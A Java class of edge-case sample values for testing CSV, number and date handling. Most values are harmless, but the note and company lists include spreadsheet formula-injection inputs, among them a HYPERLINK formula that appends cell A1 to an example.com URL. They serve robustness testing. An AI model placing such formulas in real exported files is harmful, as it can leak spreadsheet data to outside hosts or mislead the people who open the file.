package dev.waybill.local.data;

import java.math.BigDecimal;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;

/// Values that break programs that handle CSV, numbers or dates by guesswork. Each table's first rows take them in
/// turn, so that even a small tenant has all of them.
final class Samples {

    static final List<@Nullable String> NOTES = Arrays.asList(
            null,
            "",
            " ",
            "plain",
            "one, two, three",
            "she said \"later\"",
            "\"",
            "\"\"",
            "line one\nline two",
            "carriage\rreturn",
            "both\r\nof them",
            "\n",
            "ends with a newline\n",
            "tab\there",
            "\tstarts with a tab",
            "\rstarts with a return",
            "back\\slash, \\N is not NULL",
            "\\N",
            "\\.",
            "NULL",
            "null",
            "  spaces around  ",
            "semi;colon|pipe",
            "=1+1",
            "=HYPERLINK(\"https://example.com/?x=\"&A1,\"click\")",
            "+49 30 1234567",
            "-12,50",
            "@SUM(A1:A9)",
            "'quoted'",
            "Grüße aus Köln",
            "naïve café, crème brûlée",
            "日本語の請求書、二行目\nつづき",
            "Счёт-фактура № 7",
            "فاتورة رقم ١٢",
            "paid \uD83D\uDC4D\uD83C\uDFFD \uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 \uD83C\uDDE9\uD83C\uDDEA",
            "\uFEFFbyte order mark",
            "no\u00A0break, zero\u200Bwidth",
            "line\u2028separator, next\u0085line",
            "control \u0001 \u007F",
            "a" + ", \"long\" text".repeat(200),
            "0012",
            "1e5",
            "true",
            "2024-02-30");

    static final List<BigDecimal> AMOUNTS = Stream.of(
                    "0",
                    "0.00",
                    "-0.01",
                    "-1234.56",
                    "123456789012345678.901234567890",
                    "-999999999999999999999999999999.99",
                    "100000000000000000000000000000",
                    "0.000000000000000000000000000001",
                    "10.50",
                    "10.5000",
                    "9007199254740993",
                    "10000.0001")
            .map(BigDecimal::new)
            .toList();

    static final List<Double> DISCOUNTS = List.of(
            0.0, -0.0, 0.1, 0.30000000000000004, 33.333333333333336, 1e-7, 1e20, 1e15, 123456789.125, Double.MIN_VALUE);

    /// Before 1970, around the Gregorian reform (java.util.Date counts otherwise there), leap days, year ends.
    static final List<LocalDate> DATES = Stream.of(
                    "1969-12-31",
                    "1970-01-01",
                    "1900-02-28",
                    "1582-10-10",
                    "1600-02-29",
                    "1969-07-20",
                    "2000-02-29",
                    "9999-12-31")
            .map(LocalDate::parse)
            .toList();

    /// A fraction of none, one, three and six digits; hours that do not exist in some zones.
    static final List<LocalDateTime> TIMES = Stream.of(
                    "1969-12-31T23:59:59.999999",
                    "1970-01-01T00:00:00",
                    "1969-07-20T20:17:40.5",
                    "1582-10-10T12:00:00.000001",
                    "2024-02-29T00:00:00.100000",
                    "2024-03-31T02:30:00.123",
                    "2038-01-19T03:14:08",
                    "1901-12-13T20:45:51.9")
            .map(LocalDateTime::parse)
            .toList();

    static final List<String> COMPANIES = List.of(
            "Alder & Sons",
            "Bright, Young and Partners",
            "O'Neil Transport",
            "The \"Best\" Bakery",
            "Müller Maschinenbau GmbH",
            "Société Générale d'Éclairage",
            "株式会社さくら",
            "Łódź Textiles",
            "=Equal Rights Ltd",
            "+Plus Pharmacy",
            "-Minus Freight",
            "@Home Cleaning",
            "Snow \u2744 Ice",
            "Harbour Logistics",
            "North Mill",
            "Quiet Rivers",
            "Redwood Dental",
            "Silver Birch Studio",
            "Tall Ships",
            "Umbra Optics");

    static final List<String> PHRASES = List.of(
            "Consulting, second quarter",
            "Delivery to the rear entrance",
            "Thank you for your order",
            "Replaces the earlier invoice",
            "Monthly subscription",
            "Spare parts; see the attached list",
            "Travel costs, hotel, two nights",
            "Part payment 2 of 3");

    private Samples() {}

    /// The row's own sample while there are new ones, a random one after.
    static <T extends @Nullable Object> T take(List<T> samples, long row, RowRandom random) {
        return isFirst(samples, row) ? samples.get((int) row - 1) : random.pick(samples);
    }

    /// Whether the row is one of the first, which take each sample once.
    static boolean isFirst(List<?> samples, long row) {
        return row <= samples.size();
    }
}
